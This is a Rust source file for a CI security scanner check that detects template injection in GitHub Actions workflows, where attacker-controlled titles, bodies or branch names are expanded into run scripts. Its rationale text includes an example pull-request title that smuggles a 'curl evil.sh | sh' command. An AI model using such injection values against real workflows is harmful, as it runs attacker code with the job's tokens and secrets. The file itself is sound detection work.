//! `github-actions/template-injection`: attacker-controlled text is spliced into a script.

use std::sync::LazyLock;

use regex::Regex;
use ward_core::{Confidence, Severity};

use crate::actions::{Workflow, WorkflowCheck, expressions};
use crate::check::{Meta, Sink};
use crate::yaml::Node;

#[derive(Debug)]
pub struct TemplateInjection;

static META: Meta = Meta {
    id: "github-actions/template-injection",
    title: "Attacker-controlled text expanded into a script",
    severity: Severity::High,
    confidence: Confidence::High,
    description: "A `run:` script (or an `actions/github-script` `script:`) contains a `${{ }}` \
        expression over a value anyone opening an issue or pull request controls: titles and \
        bodies of issues, pull requests, comments and reviews, branch names \
        (`github.head_ref`, `...head.ref`), commit messages and author names, page names. Values \
        an outsider cannot choose (`github.sha`, `github.event.pull_request.number`, \
        `github.repository`) are not reported.",
    rationale: "Expressions are expanded into the script's text before the shell runs it. A pull \
        request titled `a\"; curl evil.sh | sh; echo \"` runs the attacker's commands with the \
        job's token and secrets: on `pull_request_target`, `issue_comment` or `workflow_run`, \
        that is a write token to the repository.",
    remediation: "Pass the value through an environment variable and quote it in the script: \
        `env: {TITLE: ${{ github.event.pull_request.title }}}` then `run: echo \"$TITLE\"`.",
    example: "- run: echo \"${{ github.event.issue.title }}\"      # reported\n# fixed:\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"",
    cwe: &["CWE-94"],
    checkov: &["CKV_GHA_2"],
};

/// Contexts whose text an outside contributor chooses.
pub static ATTACKER_CONTROLLED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        \bgithub\.head_ref\b
        | \bgithub\.event\.(?:[A-Za-z0-9_*\[\].-]*\.)?
            (?:title|body|head_ref|head_branch|page_name|default_branch|display_title|message)\b
        | \bgithub\.event\.[A-Za-z0-9_*\[\].-]*\bhead\.(?:ref|label)\b
        | \bgithub\.event\.[A-Za-z0-9_*\[\].-]*\b(?:author|committer)\.(?:name|email)\b",
    )
    .expect("valid regex")
});

impl WorkflowCheck for TemplateInjection {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, workflow: &Workflow<'_>, sink: &mut Sink<'_>) {
        for job in &workflow.jobs {
            for step in &job.steps {
                let mut scripts: Vec<(&Node, String)> = Vec::new();
                if let Some(run) = step.node.get("run") {
                    scripts.push((run, format!("{}.run", step.path)));
                }
                if step.uses_action("actions/github-script")
                    && let Some(script) = step.with("script")
                {
                    scripts.push((script, format!("{}.with.script", step.path)));
                }
                for (node, attribute) in scripts {
                    let Some(text) = node.as_str() else { continue };
                    for (_, whole, inner) in expressions(text) {
                        let Some(hit) = ATTACKER_CONTROLLED.find(inner) else {
                            continue;
                        };
                        let span = sink.locate(node.span, whole);
                        sink.report(
                            &META,
                            span,
                            &workflow.resource(Some(job)),
                            &attribute,
                            format!(
                                "Step `{}` expands {} into its script.",
                                step.label,
                                hit.as_str()
                            ),
                        );
                    }
                }
            }
        }
    }
}
